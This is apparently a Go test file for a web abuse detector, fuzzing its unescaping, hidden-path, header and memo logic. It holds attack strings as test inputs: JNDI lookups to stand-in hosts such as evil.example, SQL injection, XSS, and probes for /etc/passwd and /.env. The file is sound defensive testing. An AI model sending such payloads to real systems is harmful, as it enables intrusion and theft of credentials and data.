package payload

import (
	"context"
	"net/http"
	"reflect"
	"strings"
	"testing"

	"github.com/warden-dev/warden/abuse"
	"github.com/warden-dev/warden/internal/hexdigit"
	"github.com/warden-dev/warden/internal/redact"
)

// refUnescape is percentUnescape as first written, byte by byte: the
// reference for unescape and the faster percentUnescape.
func refUnescape(src string, plus bool) []byte {
	var dst []byte
	for i := 0; i < len(src); i++ {
		c := src[i]
		switch {
		case c == '%' && i+2 < len(src) && hexdigit.Is(src[i+1]) && hexdigit.Is(src[i+2]):
			dst = append(dst, hexdigit.Value(src[i+1])<<4|hexdigit.Value(src[i+2]))
			i += 2
		case c == '+' && plus:
			dst = append(dst, ' ')
		default:
			dst = append(dst, c)
		}
	}
	return dst
}

func checkUnescape(t *testing.T, src string, plus bool) {
	t.Helper()
	want := refUnescape(src, plus)
	if got := percentUnescape(nil, src, plus); string(got) != string(want) {
		t.Fatalf("percentUnescape(%q, %v) = %q, want %q", src, plus, got, want)
	}
	var buf []byte
	got, cm := unescape(&buf, src, plus)
	if string(got) != string(want) {
		t.Fatalf("unescape(%q, %v) = %q, want %q", src, plus, got, want)
	}
	if cm != charMask(want) {
		t.Fatalf("unescape(%q, %v): classes %#x, want %#x", src, plus, cm, charMask(want))
	}
}

func TestUnescape(t *testing.T) {
	for _, src := range []string{
		"", "a", "name", "blue+running+shoes", "a%20b", "%27%20OR%201=1", "%", "%4", "%4g", "ab%",
		"%%41", "+%2B+", "/api/products/42", "caf%C3%A9", "x%00y", "a&b\\c", "\xc0\xaf", "12345678+",
		"/*comment*/", "a+b/c*d", "tab\there", strings.Repeat("ab+", 40),
	} {
		for _, plus := range []bool{false, true} {
			checkUnescape(t, src, plus)
		}
	}
}

func FuzzUnescape(f *testing.F) {
	for _, s := range []string{"blue+running+shoes", "%27%20OR%201=1", "%4g+", "/a/b%2F..%2f", "\xc0\xaf+*"} {
		f.Add(s, true)
	}
	f.Fuzz(func(t *testing.T, src string, plus bool) {
		checkUnescape(t, src, plus)
	})
}

// refHiddenPath is hiddenPath's first, byte by byte, form: the index of
// the segment it flags, or -1.
func refHiddenPath(p []byte) int {
	for i := 0; i+2 < len(p); i++ {
		if p[i] != '/' || p[i+1] != '.' {
			continue
		}
		c := p[i+2]
		if !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c == '_') {
			continue
		}
		if indexFold(p[i:], "/.well-known/") == 0 || equalFoldStr(p[i:], "/.well-known") {
			continue
		}
		return i
	}
	return -1
}

func checkHiddenPath(t *testing.T, d *Detector, p string) {
	t.Helper()
	s := d.pool.Get().(*scan)
	defer func() { s.reset(); d.pool.Put(s) }()
	s.loc = "path"
	s.hiddenPath([]byte(p))
	want := refHiddenPath([]byte(p))
	flagged := s.sigW[len(rules)+sigHiddenPath] > 0
	if flagged != (want >= 0) {
		t.Fatalf("hiddenPath(%q): flagged %v, want %v", p, flagged, want >= 0)
	}
	// The excerpt tells where the flagged segment starts.
	if want >= 0 && s.best[cTraversal].excerpt != redact.Window([]byte(p), want, maxExcerpt) {
		t.Fatalf("hiddenPath(%q): excerpt %q, want %q", p, s.best[cTraversal].excerpt, redact.Window([]byte(p), want, maxExcerpt))
	}
}

func TestHiddenPath(t *testing.T) {
	d := newTestDetector(t)
	for _, p := range []string{"", "/", "/.", "/.e", "/.env", "/a.b/.git/config", "/x/.well-known/acme", "/.well-known",
		"/.well-known/x/.env", "/a/./b", "/a/../b", "/static/app.js", "a.b", "/.1", "/._x", "..", "/..."} {
		checkHiddenPath(t, d, p)
	}
}

func FuzzHiddenPath(f *testing.F) {
	for _, p := range []string{"/.env", "/a/./b", "/.well-known/x/.git", "/x.y/.Z"} {
		f.Add(p)
	}
	d := newTestDetector(f)
	f.Fuzz(func(t *testing.T, p string) {
		checkHiddenPath(t, d, p)
	})
}

// TestHeaderKinds checks the table that replaced the maps of skipped and
// per-client header names: exact names only, and every name
// commonHeaders looks for is one the walk does not inspect as other.
func TestHeaderKinds(t *testing.T) {
	for _, h := range skippedHeaders {
		want := hdrSkipped
		switch h {
		case "User-Agent":
			want = hdrUserAgent
		case "Referer":
			want = hdrReferer
		case "Cookie":
			want = hdrCookie
		}
		if got := kindOf(h); got != want {
			t.Errorf("kindOf(%q) = %d, want %d", h, got, want)
		}
	}
	for _, h := range perClientHeaders {
		if got := kindOf(h); got != hdrPerClient {
			t.Errorf("kindOf(%q) = %d, want per-client", h, got)
		}
	}
	for _, h := range []string{"", "X", "accept", "ACCEPT", "Accept ", "X-Api-Key", "X-Forwarded-Host", "Cookies", "X-Forwarded-Fo"} {
		if got := kindOf(h); got != hdrOther {
			t.Errorf("kindOf(%q) = %d, want other", h, got)
		}
	}
	for i, h := range probedHeaders {
		if k := probedKinds[i]; k != hdrSkipped && k != hdrUserAgent && k != hdrPerClient {
			t.Errorf("probed header %q is of kind %d: commonHeaders would miss it", h, k)
		}
	}
}

// padHeaders adds skipped headers to h until it is too large for
// commonHeaders, so that the map is walked.
func padHeaders(h http.Header) http.Header {
	p := h.Clone()
	for _, n := range []string{"Sec-Fetch-Mode", "Sec-Fetch-Site", "Sec-Fetch-Dest", "Priority", "Dnt"} {
		if _, ok := p[n]; !ok {
			p[n] = []string{"x"}
		}
	}
	return p
}

// TestHeaderWalks checks that small header sets, which commonHeaders
// reads with lookups, get the verdicts the walk of the map gives.
func TestHeaderWalks(t *testing.T) {
	const jndi = "${jndi:ldap://evil.example/a}"
	sets := []http.Header{
		{},
		{"User-Agent": {"curl/8.5"}, "Accept": {"*/*"}},
		{"User-Agent": {jndi}, "Accept": {"*/*"}},
		{"User-Agent": {"curl/8.5"}, "X-Forwarded-For": {jndi}},
		{"Accept": {"*/*"}, "Accept-Encoding": {"gzip"}, "Accept-Language": {"en"}, "X-Forwarded-For": {"1.2.3.4' or 1=1--"}},
		{"Accept": {"*/*"}, "X-Api-Note": {"<script>alert(1)</script>"}},
		{"Referer": {"https://x.example/?q=1 union select password from users--"}},
		{"Cookie": {"id=1' or '1'='1"}, "Accept": {"*/*"}},
		{"Authorization": {"Bearer ' or 1=1--"}, "Connection": {"close"}, "Content-Type": {jndi}},
		{"X-Forwarded-For": {"10.0.0.1", jndi}},
		{"Accept": {}, "User-Agent": {}},
		{"Accept": {jndi}},
		{"Accept-Language": {"en", "${${lower:j}ndi:rmi://x.example/a}"}, "X-Forwarded-For": {"1.2.3.4"}},
		{"Accept": {"${x}"}, "Accept-Encoding": {"gzip"}},
	}
	for _, cfg := range []func(*Config){func(*Config) {}, func(c *Config) { c.Headers = []string{"X-Forwarded-For"} }, func(c *Config) { c.Headers = []string{"Accept"} }} {
		c := DefaultConfig()
		cfg(&c)
		d, err := New(c)
		if err != nil {
			t.Fatal(err)
		}
		d.memo, d.urls, d.cookies, d.cookiePairs = nil, nil, nil, nil
		for _, h := range sets {
			small := &abuse.Request{Method: "GET", Path: "/a", Header: h, UserAgent: h.Get("User-Agent")}
			big := &abuse.Request{Method: "GET", Path: "/a", Header: padHeaders(h), UserAgent: h.Get("User-Agent")}
			if got, want := d.Detect(context.Background(), small), d.Detect(context.Background(), big); !reflect.DeepEqual(got, want) {
				t.Errorf("headers %v, extra %v: verdict %+v, walking the map %+v", h, c.Headers, got, want)
			}
		}
	}
}

func FuzzHeaderWalks(f *testing.F) {
	f.Add("X-Forwarded-For", "${jndi:ldap://x/a}", "Accept", "*/*")
	f.Add("Referer", "' or 1=1--", "User-Agent", "curl")
	f.Add("Accept", "${${lower:j}ndi:ldap://x/a}", "X-Request-Id", "${jndi:rmi://x/a}")
	f.Add("Authorization", "Bearer ${x", "Connection", "${")
	d := newTestDetector(f)
	d.memo, d.urls, d.cookies, d.cookiePairs = nil, nil, nil, nil
	skipped := map[string]bool{}
	for _, h := range append(skippedHeaders[:], perClientHeaders[:]...) {
		skipped[h] = true
	}
	f.Fuzz(func(t *testing.T, n1, v1, n2, v2 string) {
		if (kindOf(n1) != hdrOther) != skipped[n1] {
			t.Fatalf("kindOf(%q) = %d", n1, kindOf(n1))
		}
		h := http.Header{n1: {v1}, n2: {v2}}
		if n1 == n2 || len(h) > maxProbed-1 {
			return
		}
		small := &abuse.Request{Path: "/", Header: h}
		big := &abuse.Request{Path: "/", Header: padHeaders(h)}
		got, want := d.Detect(context.Background(), small), d.Detect(context.Background(), big)
		// Two inspected headers are visited in map order: compare the
		// judgement, not which header the evidence quotes.
		if got.Confidence != want.Confidence || got.Violation != want.Violation {
			t.Fatalf("headers %q: verdict %+v, walking the map %+v", h, got, want)
		}
	})
}

// TestURLMemo checks that remembering clean targets never changes a
// verdict, the number of values included: each request gets the same
// verdict from a detector that saw it before as from one without memos.
func TestURLMemo(t *testing.T) {
	targets := []string{
		"/api/products/42?fields=name",
		"/api/v1/items?page=3&per_page=20&sort=name&q=blue+running+shoes",
		"/items?id=-1+UNION+ALL+SELECT+username,password+FROM+users--",
		"/.env",
		"/static/.git/config?x=1",
		"/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
		"/a?a=1&b=2&c=3&d=4&e=5&f=6&g=7&h=8&i=9&a=1&b=2",
		"/p?x=aGVsbG8gd29ybGQgZnJvbSBiYXNlNjQ=",
		"/p?file=/etc/passwd",
		"/ab",
	}
	for _, maxValues := range []int{2048, 4, 6} {
		c := DefaultConfig()
		c.MaxValues = maxValues
		memo, _ := New(c)
		plain, _ := New(c)
		plain.memo, plain.urls, plain.cookies, plain.cookiePairs = nil, nil, nil, nil
		for round := range 3 {
			for _, target := range targets {
				// An attack in a header after the target: it is found
				// only while MaxValues leaves room for it.
				r := withHeader(withHeader(get(target), "User-Agent", "' or 1=1--"), "X-Note", "${jndi:ldap://x/a}")
				got, want := memo.Detect(context.Background(), r), plain.Detect(context.Background(), r)
				if got.Confidence != want.Confidence || got.Violation != want.Violation || len(got.Messages) != len(want.Messages) {
					t.Fatalf("max_values %d, round %d, %s: verdict with memo %+v, without %+v", maxValues, round, target, got, want)
				}
				r = get(target)
				if got, want := memo.Detect(context.Background(), r), plain.Detect(context.Background(), r); !reflect.DeepEqual(got, want) {
					t.Fatalf("max_values %d, round %d, %s alone: verdict with memo %+v, without %+v", maxValues, round, target, got, want)
				}
			}
		}
		_, values, ok := memo.urls.lookup("/api/products/42", "fields=name")
		if maxValues > 3 && (!ok || values != 3) {
			t.Errorf("max_values %d: clean target remembered %v with %d values, want 3", maxValues, ok, values)
		}
		for _, target := range targets[2:6] {
			path, q, _ := strings.Cut(target, "?")
			if _, _, ok := memo.urls.lookup(path, q); ok {
				t.Errorf("%s: target with a signal remembered", target)
			}
		}
	}
	d := newTestDetector(t)
	d.Detect(context.Background(), get("/once/123?x=1"))
	if _, _, ok := d.urls.lookup("/once/123", "x=1"); ok {
		t.Error("target remembered the first time it was seen")
	}
}

func FuzzURLMemo(f *testing.F) {
	f.Add("/api/products/42?fields=name")
	f.Add("/items?id=-1+UNION+SELECT+1--")
	f.Add("/.env")
	memo := newTestDetector(f)
	plain := newTestDetector(f)
	plain.memo, plain.urls, plain.cookies, plain.cookiePairs = nil, nil, nil, nil
	f.Fuzz(func(t *testing.T, target string) {
		path, q, _ := strings.Cut(target, "?")
		r := &abuse.Request{Path: path, RawQuery: q}
		want := plain.Detect(context.Background(), r)
		for range 3 {
			if got := memo.Detect(context.Background(), r); !reflect.DeepEqual(got, want) {
				t.Fatalf("%q: verdict with memo %+v, without %+v", target, got, want)
			}
		}
	})
}

// FuzzCookieMemo: a Cookie header's verdict is the same with the memo as
// without, on its first sight and on the hits after, whatever the query
// before it (values counted, repeats) holds.
func FuzzCookieMemo(f *testing.F) {
	f.Add("a=1&b=2", cleanCookie)
	f.Add("a=1&b=2&c=3&d=4&e=5&f=6&g=7&h=8&i=9", "x=blue shoes (42); y=blue shoes (42)")
	f.Add("q=1", "pref=1' union select password from users--")
	memo := newTestDetector(f)
	plain := newTestDetector(f)
	plain.memo, plain.urls, plain.cookies, plain.cookiePairs = nil, nil, nil, nil
	f.Fuzz(func(t *testing.T, query, cookie string) {
		r := &abuse.Request{Path: "/p", RawQuery: query, Header: http.Header{"Cookie": {cookie}}}
		want := plain.Detect(context.Background(), r)
		for range 3 {
			if got := memo.Detect(context.Background(), r); !reflect.DeepEqual(got, want) {
				t.Fatalf("%q %q: verdict with memo %+v, without %+v", query, cookie, got, want)
			}
		}
	})
}

// TestPerClientNamesClean checks what the header walk takes for granted
// instead of inspecting the names of perClientHeaders: with every check
// on, each is one clean value.
func TestPerClientNamesClean(t *testing.T) {
	c := DefaultConfig()
	c.Base64, c.Disable = true, nil
	d, err := New(c)
	if err != nil {
		t.Fatal(err)
	}
	for _, h := range perClientHeaders {
		s := d.pool.Get().(*scan)
		s.loc, s.name = "header", []byte(h)
		s.nameValue([]byte(h))
		if s.signals != 0 || s.values != 1 || indexFold([]byte(h), "file") >= 0 {
			t.Errorf("%s: %d signals, %d values", h, s.signals, s.values)
		}
		s.reset()
		d.pool.Put(s)
	}
}

// TestClasses checks classes and rawClasses, which read short values and
// leftover bytes as overlapping groups, against a byte-by-byte union, at
// every length around the group sizes.
func TestClasses(t *testing.T) {
	alphabet := []byte("aZ9-+%/*;'\\\t\x00\xc0 (:")
	for n := 0; n <= 40; n++ {
		for shift := range alphabet {
			v := make([]byte, n)
			for i := range v {
				v[i] = alphabet[(i*7+shift)%len(alphabet)]
			}
			for one := -1; one < n; one++ {
				w := append([]byte(nil), v...)
				if one >= 0 {
					w[one] = '$' // a class found at one position only
				}
				var want, wantRaw uint32
				for _, c := range w {
					want |= charClass[c]
					wantRaw |= rawClass[c]
				}
				if got := classes(w); got != want {
					t.Fatalf("classes(%q) = %#x, want %#x", w, got, want)
				}
				if got := rawClasses(string(w)); got != wantRaw {
					t.Fatalf("rawClasses(%q) = %#x, want %#x", w, got, wantRaw)
				}
			}
		}
	}
}

// checkNumericClean checks what inspect takes for granted when it skips a
// value numericClean accepts: the automaton matches nothing in it, its
// classes call for no other check, and a whole inspection finds nothing.
func checkNumericClean(t *testing.T, d *Detector, v string) {
	t.Helper()
	if !numericClean([]byte(v)) {
		return
	}
	matcher.Scan([]byte(v), func(id, _ int) bool {
		t.Fatalf("%q: numericClean, yet the automaton finds %q", v, rules[id].pat)
		return false
	})
	if cm := charMask([]byte(v)); cm&^(cmSpecial|cmNotBase64|cmSpace) != 0 || phpSerialized([]byte(v)) {
		t.Fatalf("%q: numericClean, yet classes %#x", v, cm)
	}
	for _, loc := range []string{"query", "header", "path"} {
		s := d.pool.Get().(*scan)
		s.loc = loc
		s.analyze([]byte(v), 1, allClasses)
		s.base64([]byte(v), charMask([]byte(v)))
		if s.signals != 0 {
			t.Fatalf("%q at %s: numericClean, yet %d signals", v, loc, s.signals)
		}
		s.reset()
		d.pool.Put(s)
	}
}

func TestNumericClean(t *testing.T) {
	if !numericFast || len(numericPats) == 0 {
		t.Fatalf("numeric patterns %q, fast path %v: expected the metadata address alone", numericPats, numericFast)
	}
	d := newTestDetector(t)
	for _, v := range []string{"10.1.2.3", "198.51.100.23, 10.0.0.1", "12.99", "1,234,567", "2026", "0", " ",
		"169.254.169.254", "10.169.254.169.2540", "127.0.0.1", "0.0.0.0", "12345678901234567890"} {
		checkNumericClean(t, d, v)
	}
	if numericClean([]byte("169.254.169.254")) || numericClean([]byte("1.2.3.4a")) || numericClean([]byte("1;2")) {
		t.Error("numericClean accepts a value with a pattern or another byte")
	}
	if !numericClean([]byte("198.51.100.23, 10.0.0.1")) {
		t.Error("numericClean refuses an address list")
	}
}

func FuzzNumericClean(f *testing.F) {
	f.Add("169.254.169.254")
	f.Add("10.0.0.1, 192.168.1.1")
	d := newTestDetector(f)
	f.Fuzz(func(t *testing.T, v string) {
		checkNumericClean(t, d, v)
		// Mostly numeric inputs reach the interesting side.
		var b []byte
		for i := 0; i < len(v); i++ {
			b = append(b, "0123456789., "[int(v[i])%13])
		}
		checkNumericClean(t, d, string(b))
	})
}

// TestMemosConcurrent has goroutines share one detector's memos while
// its targets and header values are remembered and replaced, and checks
// every verdict against a detector without memos (run with -race).
func TestMemosConcurrent(t *testing.T) {
	c := DefaultConfig()
	memo, _ := New(c)
	plain, _ := New(c)
	plain.memo, plain.urls, plain.cookies, plain.cookiePairs = nil, nil, nil, nil
	var reqs []*abuse.Request
	var want []abuse.Verdict
	for i := range 40 {
		target := "/api/items/" + strings.Repeat("1", i%7+1) + "?page=2&q=blue+shoes"
		ua := "Mozilla/5.0 (X11; Linux x86_64) Firefox/128." + strings.Repeat("0", i%5)
		if i%9 == 0 {
			target += "&id=1'+or+'1'='1"
		}
		if i%11 == 0 {
			ua = "${jndi:ldap://x/a}"
		}
		r := withHeader(withHeader(get(target), "User-Agent", ua), "X-Forwarded-For", "10.0.0.1")
		reqs = append(reqs, r)
		want = append(want, plain.Detect(context.Background(), r))
	}
	errs := make(chan string, 4)
	for g := range 4 {
		go func() {
			for n := range 400 {
				i := (n*7 + g) % len(reqs)
				if got := memo.Detect(context.Background(), reqs[i]); !reflect.DeepEqual(got, want[i]) {
					errs <- reqs[i].Path + "?" + reqs[i].RawQuery
					return
				}
			}
			errs <- ""
		}()
	}
	for range 4 {
		if e := <-errs; e != "" {
			t.Fatalf("%s: verdict with shared memos differs from one without", e)
		}
	}
}
